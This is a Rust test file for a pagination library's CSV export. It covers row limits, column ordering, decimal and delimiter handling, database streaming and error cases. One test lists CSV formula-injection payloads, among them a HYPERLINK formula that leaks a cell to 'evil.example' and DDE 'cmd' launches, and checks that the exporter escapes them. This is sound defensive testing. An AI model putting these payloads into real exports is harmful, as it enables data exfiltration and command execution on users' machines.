//! CSV: all rows in one file, at `tg_format=csv`.

use crate::support::database;
use crate::support::log;
use std::collections::HashMap;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use crate::support::database::{Database, Row, Value, on_each, suite};
use crate::support::{Person, people};
use futures::{StreamExt, TryStreamExt, stream};
use sea_orm::EntityTrait;
use serde_json::json;
use sqlx::AssertSqlSafe;
use tg_paginate::prelude::*;
use tg_paginate::{
    ContextRequest, Csv, Dataset, Error, FetchedPage, MaxRows, Nulls, Paginator, Plan, Request,
    RowStream,
};

const CONFIG: PaginateConfig = PaginateConfig::new().limit(2);

async fn start<D: Dataset>(config: PaginateConfig, query: &str, rows: D) -> Result<Csv, Error> {
    Paginator::new("persons", config).csv(Request::new("/persons", query), rows).await
}

/// The file without its byte order mark.
async fn file<D: Dataset>(config: PaginateConfig, query: &str, rows: D) -> Result<String, Error> {
    let bytes = start(config, query, rows).await?.try_concat().await?;
    let text = String::from_utf8(bytes).unwrap();
    Ok(text.strip_prefix('\u{feff}').unwrap_or(&text).to_owned())
}

/// The message of a refusal for the client.
fn refusal(error: &Error) -> String {
    assert_eq!(error.status(), 422);
    error.to_string()
}

#[tokio::test]
async fn a_key_with_a_dot_and_a_nested_field_of_the_same_name_are_one_column() {
    let rows = vec![json!({ "a.b": 1, "a": { "b": 2 } }), json!({ "a": { "b": 3 } })];
    assert_eq!(file(CONFIG, "", rows).await.unwrap(), "a.b\r\n1\r\n3\r\n");
    // the key wins, as in grids, wherever it is
    let rows = vec![json!({ "a": { "b": 2 }, "a.b": 1 }), json!({ "a": { "b": 3 } })];
    assert_eq!(file(CONFIG, "", rows).await.unwrap(), "a.b\r\n1\r\n3\r\n");
}

#[tokio::test]
async fn a_hundred_thousand_rows_are_built_in() {
    let bytes = file(CONFIG, "", Vec::from_iter(0..100_000)).await.unwrap();
    assert_eq!(bytes.lines().count(), 100_001);
    let error = file(CONFIG, "", Vec::from_iter(0..100_001)).await.unwrap_err();
    assert!(refusal(&error).contains("more than 100000 rows"), "{error}");
    let unlimited = CONFIG.max_csv(MaxRows::Unlimited);
    assert_eq!(
        file(unlimited, "", Vec::from_iter(0..100_001)).await.unwrap().lines().count(),
        100_002
    );
    assert_eq!(file(CONFIG.max_csv(MaxRows::Rows(0)), "", Vec::from_iter(0..0)).await.unwrap(), "");
}

#[tokio::test]
async fn a_grid_gives_its_titles_and_the_values_without_their_formats() {
    let born = |person: &Person| 2000 - person.age;
    let grid = DataGrid::new([
        Column::new("name").title("Full, name").link("/persons/{id}"),
        Column::new("born").computed(born).number(),
        Column::new("age").title("=1").hide_below(tg_paginate::Breakpoint::Large).sortable(),
        Column::new("missing").bool(),
    ]);
    let grid = grid.unwrap();
    let sorted = file(CONFIG, "persons_tgp_ordering=-age", grid.rows(people())).await.unwrap();
    let (first, rest) = sorted.split_once("\r\n").unwrap();
    assert_eq!(first, "\"Full, name\",Born,\"'=1\",Missing");
    assert!(rest.starts_with("Donald,1912,88,\r\nGrace,1915,85,\r\n"), "{rest}");
    let empty = file(CONFIG, "", grid.rows(Vec::<Person>::new())).await.unwrap();
    assert_eq!(empty, "\"Full, name\",Born,\"'=1\",Missing\r\n");
}

#[tokio::test]
async fn a_value_of_a_context_is_exported_as_a_dataset_is() {
    let paginators = [Paginator::new("persons", CONFIG.csv(true))];
    let query = "persons_tgp_ordering=-n&tg_format=csv";
    let paging = ContextRequest::read(&paginators, Request::new("/", query)).unwrap();
    assert!(paging.wants_csv());
    let numbers: Vec<_> =
        (0..900).map(|n| json!({ "at": { "x": -n }, "n": n * 7 % 900 })).collect();
    let csv = paging.csv(context! { persons: numbers }).await.unwrap();
    let bytes = csv.try_concat().await.unwrap();
    let text = String::from_utf8(bytes).unwrap();
    let lines: Vec<_> = text.lines().collect();
    assert_eq!(lines[..2], ["\u{feff}at.x,n", "-257,899"]);
    assert_eq!((lines.len(), lines[900]), (901, "0,0"));
}

#[tokio::test]
async fn hostile_values_come_to_nothing() {
    let evil = [
        "=HYPERLINK(\"http://evil.example?\"&A1,\"ok\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r\n=1",
        "a\",\"=1",
        "-5",
        "=\0",
        "x;=1+cmd|'/C calc'!A0",
        "x\t-2+3",
        "x; \"＝1",
        "x;-5",
        "\u{a0}\u{feff} =1+1",
    ];
    let text = file(CONFIG, "", evil.map(|text| json!({ "=a": text })).to_vec()).await.unwrap();
    let expected = "\"'=a\"\r\n\
                    \"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"ok\"\")\"\r\n\
                    \"'+1+cmd|' /C calc'!A0\"\r\n\"'-2+3\"\r\n\"'@SUM(A1)\"\r\n\
                    \"'\t'=1\"\r\n\"'\r\n'=1\"\r\n\"a\"\",\"\"=1\"\r\n-5\r\n\"'=\0\"\r\n\
                    \"x;'=1+cmd|'/C calc'!A0\"\r\n\"x\t'-2+3\"\r\n\"x;' \"\"＝1\"\r\n\"x;'-5\"\r\n\
                    \"'\u{a0}\u{feff} =1+1\"\r\n";
    assert_eq!(text, expected);
}

#[tokio::test]
async fn a_number_before_a_text_is_no_formula_where_semicolons_part_cells() {
    let row = json!({ "a": -5, "b": "2+cmd|'/C calc'!A0" });
    assert_eq!(file(CONFIG, "", vec![row]).await.unwrap(), "a,b\r\n-5,\"2+cmd|'/C calc'!A0\"\r\n");
}

#[tokio::test]
async fn phone_numbers_keep_their_plus_and_numbers_stay_numbers() {
    let texts = ["+4930123456", "+49 30 123456", "-5", "-0.02", "+1-1", "'+1", "-1234567890123456"];
    let rows = texts.map(|text| json!({ "a": text })).into_iter();
    let rows = rows.chain([json!({ "a": -70 }), json!({ "a": -1_234_567_890_123_456_i64 })]);
    let expected = "a\r\n\"'+4930123456\"\r\n\"'+49 30 123456\"\r\n-5\r\n-0.02\r\n\"'+1-1\"\r\n\
                    '+1\r\n\"'-1234567890123456\"\r\n-70\r\n-1234567890123456\r\n";
    assert_eq!(file(CONFIG, "", rows.collect::<Vec<_>>()).await.unwrap(), expected);
}

#[tokio::test]
async fn columns_of_hash_maps_come_in_one_order() {
    let names = ["id", "age", "size", "rank", "year"];
    for _ in 0..10 {
        let row = |n: i32| HashMap::from(names.map(|name| (name, n)));
        let text = file(CONFIG, "", (1..=9).map(row).collect::<Vec<_>>()).await.unwrap();
        assert_eq!(
            text.lines().take(2).collect::<Vec<_>>(),
            ["age,id,rank,size,year", "1,1,1,1,1"]
        );
    }
}

#[tokio::test]
async fn columns_of_structs_keep_their_order() {
    #[derive(Clone, serde::Serialize)]
    struct Sparse {
        z: u8,
        #[serde(skip_serializing_if = "Option::is_none")]
        y: Option<u8>,
        #[serde(skip_serializing_if = "Option::is_none")]
        x: Option<u8>,
    }

    let rows = vec![
        Sparse { z: 1, y: None, x: Some(2) },
        Sparse { z: 1, y: Some(3), x: None },
        Sparse { z: 1, y: Some(3), x: Some(2) },
    ];
    let text = file(CONFIG, "", rows).await.unwrap();
    assert_eq!(text, "z,y,x\r\n1,,2\r\n1,3,\r\n1,3,2\r\n");
}

#[tokio::test]
async fn a_field_that_the_first_rows_leave_out_has_a_column() {
    #[derive(serde::Serialize)]
    struct Person {
        #[serde(skip_serializing_if = "Option::is_none")]
        nickname: Option<&'static str>,
        id: u32,
        at: Place,
        #[serde(skip_serializing_if = "Option::is_none")]
        phone: Option<&'static str>,
        #[serde(skip)]
        #[expect(dead_code, reason = "no file shows it")]
        secret: u32,
    }

    #[derive(serde::Serialize)]
    struct Place {
        #[serde(skip_serializing_if = "Option::is_none")]
        street: Option<&'static str>,
        city: &'static str,
    }

    let rows = (0..1001).map(|id| {
        let last = |text| (id == 1000).then_some(text);
        let at = Place { street: last("Kay"), city: "Ulm" };
        Person { nickname: last("A"), id, at, phone: last("112"), secret: 7 }
    });
    let text = file(CONFIG, "", Vec::from_iter(rows)).await.unwrap();
    let lines: Vec<_> = text.lines().collect();
    assert_eq!(lines[..2], ["nickname,id,at.street,at.city,phone", ",0,,Ulm,"]);
    assert_eq!(lines[1001], "A,1000,Kay,Ulm,112");
}

#[tokio::test]
async fn delimiter_and_decimal_sign_are_those_of_the_readers_country() {
    let rows = || vec![json!({ "a;b": -1.5, "c": "2.25", "d": "x,y", "e": "v1.2", "f": [0.5] })];
    for (config, expected) in [
        (CONFIG, "\"a;b\",c,d,e,f\r\n-1.5,2.25,\"x,y\",\"v1.2\",\"[0.5]\"\r\n"),
        (CONFIG.csv_decimal(","), "\"a;b\";c;d;e;f\r\n-1,5;2,25;\"x,y\";\"v1.2\";\"[0.5]\"\r\n"),
        (
            CONFIG.csv_delimiter("\t"),
            "\"a;b\"\tc\td\te\tf\r\n-1.5\t2.25\t\"x,y\"\t\"v1.2\"\t\"[0.5]\"\r\n",
        ),
    ] {
        assert_eq!(file(config, "", rows()).await.unwrap(), expected);
    }
}

#[tokio::test]
async fn decimals_of_each_database_have_the_decimal_sign() {
    for database in database::all("decimal signs in CSV").await {
        let config = CONFIG.csv_decimal(",").csv_name("Beträge");
        let sql = "SELECT 1 AS id, CAST(12.5 AS DECIMAL(9, 2)) AS amount";
        let text = on_each!(&database, pool => {
            file(config, "", sqlx::query(sql).on(pool).key("id")).await.unwrap()
        });
        let amount = text.lines().nth(1).unwrap();
        assert_eq!(amount.trim_end_matches('0'), "1;12,5", "{}", database.name());
    }
}

fn table() -> Vec<Row> {
    let numbers = (0..1200).map(|number| {
        let text = Value::Text(format!("=text \"{}\"", number % 7));
        let real = if number % 5 == 0 { Value::Null } else { Value::Real(f64::from(number)) };
        [Value::Integer(i64::from(number) % 11 - 5), text, real, Value::Null, Value::Null]
    });
    numbers.collect()
}

#[tokio::test]
async fn every_database_gives_all_rows_in_the_order_of_memory() {
    #[derive(Clone, serde::Serialize)]
    struct InMemory {
        id: u32,
        a: serde_json::Value,
        b: serde_json::Value,
        c: serde_json::Value,
    }

    let memory = (0..).zip(table()).map(|(id, [a, b, c, ..])| {
        let (a, b, c) = (a.json(), b.json(), c.json());
        InMemory { id, a, b, c }
    });
    let memory: Vec<_> = memory.collect();
    let config = CONFIG.nulls(Nulls::Last).max_sort(MaxRows::Unlimited);
    for database in database::all("csv").await {
        database.table("suite", &table()).await;
        for ordering in ["id", "-a,c,id", "b,-c,-id", "c,b,id"] {
            let query = format!("persons_tgp_ordering={ordering}&persons_tgp_no=7");
            let expected = file(config, &query, memory.clone()).await.unwrap();
            let sql = "SELECT id, a, b, c FROM suite -- all";
            let read = on_each!(&database, pool => {
                file(config, &query, sqlx::query(sql).on(pool).key("id")).await.unwrap()
            });
            assert_eq!(without_points(&read), without_points(&expected), "{}", database.name());
            let models = suite::Entity::find().on(&database.sea_orm());
            let read = file(config, &query, models).await.unwrap();
            assert_eq!(ids(&read), ids(&expected), "{} with SeaORM", database.name());
        }
        too_many_in(&database).await;
        none_in(&database).await;
    }
}

/// Databases print whole numbers with or without a point.
fn without_points(text: &str) -> String {
    text.replace(".0\r\n", "\r\n")
}

fn ids(text: &str) -> Vec<&str> {
    text.lines().map(|line| line.split_once(',').unwrap().0).collect()
}

async fn too_many_in(database: &Database) {
    let sql = "SELECT id FROM suite";
    let most = |rows| CONFIG.max_csv(MaxRows::Rows(rows));
    on_each!(database, pool => {
        let query = || sqlx::query(sql).on(pool).key("id");
        let error = start(most(1199), "", query()).await.unwrap_err();
        assert!(refusal(&error).contains("more than 1199 rows"));
        assert_eq!(file(most(1200), "", query()).await.unwrap().lines().count(), 1201);
        assert!(start(CONFIG.strict(true), "persons_tgp_ordering=nope", query()).await.is_err());
    });
}

async fn none_in(database: &Database) {
    let sql = "SELECT id, a FROM suite WHERE id < 0";
    let grid = DataGrid::<tg_paginate::Record>::new([("Number", "id"), ("A", "a")]).unwrap();
    on_each!(database, pool => {
        assert_eq!(file(CONFIG, "", sqlx::query(sql).on(pool).key("id")).await.unwrap(), "");
        let rows = grid.rows(sqlx::query(sql).on(pool).key("id"));
        assert_eq!(file(CONFIG, "", rows).await.unwrap(), "Number,A\r\n");
    });
}

/// A million million rows, more than a test can wait for.
fn endless() -> String {
    let ten =
        "(SELECT 0 AS n UNION ALL SELECT 1".to_owned() + &" UNION ALL SELECT 2".repeat(8) + ")";
    let tables: Vec<_> = (0..12).map(|place| format!("{ten} AS t{place}")).collect();
    format!("SELECT t0.n, 'some text to fill a buffer' AS text FROM {}", tables.join(", "))
}

#[tokio::test]
async fn the_database_stops_when_the_client_goes_away() {
    for database in database::all("csv stopped").await {
        let sql = AssertSqlSafe(endless());
        let config = CONFIG.max_csv(MaxRows::Unlimited);
        on_each!(&database, pool => {
            let mut csv = start(config, "", sqlx::query(sql).on(pool)).await.unwrap();
            assert!(csv.next().await.unwrap().is_ok());
            drop(csv);
            // the pool has only one connection
            sqlx::query("SELECT 1").fetch_one(pool).await.unwrap();
        });
    }
}

#[tokio::test]
async fn only_as_many_rows_are_read_as_the_client_takes() {
    let read = Arc::new(AtomicU64::new(0));
    let mut csv = start(CONFIG, "", Counted(Arc::clone(&read), 50_000)).await.unwrap();
    let mut chunks = 0;
    while let Some(chunk) = csv.next().await {
        assert!(chunk.unwrap().len() < 10_000);
        chunks += 1;
        assert!(read.load(Ordering::Relaxed) <= 500 * (chunks + 1));
    }
    assert_eq!(read.load(Ordering::Relaxed), 50_000);
}

/// Numbers that are counted when they are read. The row after the last one is an error.
#[derive(Clone)]
struct Counted(Arc<AtomicU64>, u64);

impl Dataset for Counted {
    type Row = u64;

    async fn fetch(self, plan: &Plan) -> Result<FetchedPage<u64>, Error> {
        let slice = plan.slice(self.1)?;
        self.0.fetch_add(1, Ordering::Relaxed);
        let rows = slice.offset()..slice.offset() + slice.len();
        Ok(FetchedPage::new(slice, rows.collect()))
    }

    fn stream(self, _: &Plan) -> RowStream<u64> {
        let Counted(read, rows) = self;
        RowStream::new(stream::iter(0..rows).map(move |row| {
            read.fetch_add(1, Ordering::Relaxed);
            Ok(row)
        }))
    }
}

/// `Counted`, page by page.
struct ContextPages(Counted);

impl Dataset for ContextPages {
    type Row = u64;

    async fn fetch(self, plan: &Plan) -> Result<FetchedPage<u64>, Error> {
        self.0.fetch(plan).await
    }

    fn stream(self, plan: &Plan) -> RowStream<u64> {
        RowStream::by_pages(self.0, plan, 100)
    }
}

#[tokio::test]
async fn a_dataset_of_ones_own_can_be_exported_page_by_page() {
    for (rows, fetches) in [(0, 1), (99, 1), (250, 3), (300, 4)] {
        let fetched = Arc::new(AtomicU64::new(0));
        let text =
            file(CONFIG, "", ContextPages(Counted(Arc::clone(&fetched), rows))).await.unwrap();
        let expected = (0..rows).map(|row| format!("{row}\r\n")).collect::<String>();
        assert_eq!(text.trim_start_matches("value\r\n"), expected);
        assert_eq!(fetched.load(Ordering::Relaxed), fetches, "{rows}");
    }
    let fetched = Arc::new(AtomicU64::new(0));
    let most = CONFIG.max_csv(MaxRows::Rows(299));
    let error = file(most, "", ContextPages(Counted(Arc::clone(&fetched), 300))).await.unwrap_err();
    assert!(refusal(&error).contains("more than 299"));
    assert_eq!(fetched.load(Ordering::Relaxed), 1, "the first page tells how many there are");
}

/// Returns at most 50 rows at once.
#[derive(Clone)]
struct AtMostFifty(Counted);

impl Dataset for AtMostFifty {
    type Row = u64;

    async fn fetch(self, plan: &Plan) -> Result<FetchedPage<u64>, Error> {
        let slice = plan.slice(self.0.1)?;
        let rows = slice.offset()..slice.offset() + slice.len().min(50);
        Ok(FetchedPage::new(slice, rows.collect()))
    }

    fn stream(self, plan: &Plan) -> RowStream<u64> {
        RowStream::by_pages(self, plan, 100)
    }
}

#[tokio::test]
async fn an_export_by_pages_that_misses_rows_ends_in_an_error() {
    let error = file(CONFIG, "", AtMostFifty(Counted(Arc::default(), 300))).await.unwrap_err();
    assert!(error.to_string().contains("after 50 of 300 rows"), "{error}");
}

#[tokio::test]
async fn rows_that_grow_beyond_the_cap_while_they_are_read_end_in_an_error() {
    let rows = Counted(Arc::default(), 1000);
    let mut csv = start(CONFIG.max_csv(MaxRows::Rows(800)), "", rows).await.unwrap();
    assert!(csv.next().await.unwrap().is_ok());
    assert!(refusal(&csv.next().await.unwrap().unwrap_err()).contains("more than 800 rows"));
    assert!(csv.next().await.is_none());
}

/// Five hundred rows with the field `a`, and one with another.
fn late_field() -> Vec<serde_json::Value> {
    (0..501)
        .map(|n| if n < 500 { json!({ "a": n }) } else { json!({ "b": n, "c": { "d": n } }) })
        .collect()
}

/// Rows that are read one after another.
struct Streamed(Vec<serde_json::Value>);

impl Dataset for Streamed {
    type Row = serde_json::Value;

    async fn fetch(self, plan: &Plan) -> Result<FetchedPage<serde_json::Value>, Error> {
        self.0.fetch(plan).await
    }

    fn stream(self, _: &Plan) -> RowStream<serde_json::Value> {
        RowStream::new(stream::iter(self.0).map(Ok))
    }
}

#[tokio::test]
async fn a_field_that_the_first_rows_do_not_show_is_an_error_and_not_lost() {
    let (log, _guard) = log::capture();
    let error = file(CONFIG, "", Streamed(late_field())).await.unwrap_err();
    let expected = "a row shows `b`, which the first rows do not: export the rows of a grid, or \
                    show it in all";
    assert_eq!(error.to_string(), expected);
    let text = log::text(&log);
    assert!(text.contains("an export was cut off") && text.contains("`b`"), "{text}");
}

#[tokio::test]
async fn a_list_in_memory_has_the_fields_of_all_its_rows() {
    let text = file(CONFIG, "", late_field()).await.unwrap();
    assert!(text.starts_with("a,b,c.d\r\n0,,\r\n") && text.ends_with("\r\n,500,500\r\n"), "{text}");
    // as the value of a context
    let paginators = [Paginator::new("rows", CONFIG.csv(true))];
    let request = Request::new("/rows", "tg_format=csv");
    let paging = ContextRequest::read(&paginators, request).unwrap();
    let csv = paging.csv(context! { rows: late_field() }).await.unwrap();
    let bytes = csv.try_concat().await.unwrap();
    assert_eq!(String::from_utf8(bytes).unwrap().trim_start_matches('\u{feff}'), text);
}

#[tokio::test]
async fn a_row_that_cannot_be_read_ends_the_file_in_an_error() {
    #[derive(serde::Serialize, sqlx::FromRow)]
    struct Row {
        id: i64,
        n: i64,
    }

    let databases = database::all("csv decoded").await;
    let Database::Sqlite(pool) = &databases[0] else { panic!("SQLite is always there") };
    let sql = "WITH RECURSIVE t(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM t WHERE id < 900)
               SELECT id, CASE id WHEN 700 THEN 'text' ELSE id END AS n FROM t";
    let rows = || sqlx::query_as::<_, Row>(sql).on(pool).key("id");
    let mut csv = start(CONFIG, "", rows()).await.unwrap();
    assert!(csv.next().await.unwrap().is_ok());
    assert!(matches!(csv.next().await, Some(Err(Error::Database(_)))));
    drop(csv);
    // an error among the first rows is an error response
    let error = start(CONFIG, "persons_tgp_ordering=-id", rows()).await.unwrap_err();
    assert_eq!(error.status(), 500);
}

#[tokio::test]
async fn what_only_the_row_type_has_is_sorted_in_memory_up_to_max_sort() {
    #[derive(sqlx::FromRow)]
    struct Row {
        id: i64,
    }

    impl serde::Serialize for Row {
        fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
            json!({ "id": self.id, "rest": self.id % 3 }).serialize(serializer)
        }
    }

    let databases = database::all("csv computed").await;
    let Database::Sqlite(pool) = &databases[0] else { panic!("SQLite is always there") };
    let sql = "WITH RECURSIVE t(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM t WHERE id < 5)
               SELECT id FROM t";
    let query = "persons_tgp_ordering=-rest";
    let rows = || sqlx::query_as::<_, Row>(sql).on(pool).key("id");
    let text = file(CONFIG, query, rows()).await.unwrap();
    assert_eq!(text, "id,rest\r\n2,2\r\n5,2\r\n1,1\r\n4,1\r\n3,0\r\n");
    let unsorted = file(CONFIG.max_sort(MaxRows::Rows(4)), query, rows()).await.unwrap();
    assert_eq!(unsorted, "id,rest\r\n1,1\r\n2,2\r\n3,0\r\n4,1\r\n5,2\r\n");
}
